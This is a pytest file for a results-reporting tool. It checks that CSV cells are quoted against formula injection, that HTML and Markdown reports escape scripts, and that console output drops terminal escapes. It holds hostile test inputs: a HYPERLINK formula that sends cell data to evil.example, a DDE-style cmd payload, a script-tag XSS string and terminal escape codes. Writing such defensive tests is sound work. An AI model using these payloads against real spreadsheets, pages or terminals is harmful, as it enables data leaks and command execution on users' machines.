"""Text from journals in the report's files and on the console (issue 18).

runs.csv: a text cell a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab,
CR first) is quoted with a single quote, as OWASP's CSV-injection advice says; numbers stay
numbers. report.html: HTML-escaped. report.md: no raw HTML. The console: no terminal
escapes, no rich markup, from any journal field or run folder name.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from _support.runs import run_shipped

from looplab.results import collect
from looplab.results._csv import neutralise
from looplab.results.cli import collect_command

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
RUN = "20990101T000000Z-loop-detection-local"


@pytest.fixture(scope="module")
def one(tmp_path_factory: pytest.TempPathFactory) -> Path:
    results = tmp_path_factory.mktemp("text") / "results"
    run_shipped(results)
    return results


def doc_of(results: Path) -> dict[str, Any]:
    [path] = results.glob("runs/*/journal.json")
    return json.loads(path.read_text())


def add_run(results: Path, doc: dict[str, Any], name: str = RUN) -> None:
    folder = results / "runs" / name
    folder.mkdir(parents=True)
    (folder / "journal.json").write_text(json.dumps(doc))


@pytest.fixture
def hostile(one: Path, tmp_path: Path) -> Path:
    """The good run, and one whose DLQ held a formula, a script and terminal escapes."""
    results = tmp_path / "results"
    shutil.copytree(one, results)
    doc = doc_of(one)
    doc["observations"]["drained"] = {
        "DeadLetterQueue": [{"body": FORMULA}, {"body": SCRIPT + ESCAPES}]
    }
    doc["reason"] = "-2+3+cmd|' /C calc'!A0"
    add_run(results, doc)
    return results


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("--sim recursion_threshold=30", "'--sim recursion_threshold=30"),
        ("-1", "-1"),  # text that is only a number: a spreadsheet reads the number
        ("+1.5", "+1.5"),
        ("-2.5e3", "-2.5e3"),
        (-1, -1),  # numbers are never text cells
        (-0.5, -0.5),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_formula_cell_is_quoted_and_numbers_are_not(cell: Any, written: Any) -> None:
    assert neutralise(cell) == written


def test_runs_csv_quotes_a_formula_from_a_dlq_body(hostile: Path) -> None:
    assert collect(hostile, cloudwatch=None).exit_code == 0
    with open(hostile / "runs.csv", newline="") as f:
        rows = {r["run"]: r for r in csv.DictReader(f)}
    row = rows[RUN]
    assert row["dlq_body"].startswith("'=HYPERLINK(")
    assert row["reason"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["invocations"] == "16" and row["dlq_in_flight"] == "0"  # numbers as they were
    for cells in rows.values():
        for value in cells.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


def test_report_html_escapes_journal_text(hostile: Path) -> None:
    collect(hostile, cloudwatch=None)
    html = (hostile / "report.html").read_text()
    assert SCRIPT not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    md = (hostile / "report.md").read_text()
    assert SCRIPT not in md and "&lt;script>alert(1)&lt;/script>" in md
    for text in (html, md):
        assert "\x1b" not in text and "\x07" not in text


def test_the_console_shows_no_escape_or_markup_from_a_journal(
    one: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = tmp_path / "results"
    shutil.copytree(one, results)
    doc = doc_of(one)
    add_run(results, dict(doc, scenario=f"evil{ESCAPES}[red]x[/red]"))
    add_run(results, {"schema_version": 2}, name=f"20990101T000001Z-bad{ESCAPES}[bold]")
    assert collect_command(results, backend="aws") == 2  # "the journals hold: ..." names them
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "evil" in err and "[red]x[/red]" in err  # markup shown as text
    assert "bad[bold]" in err
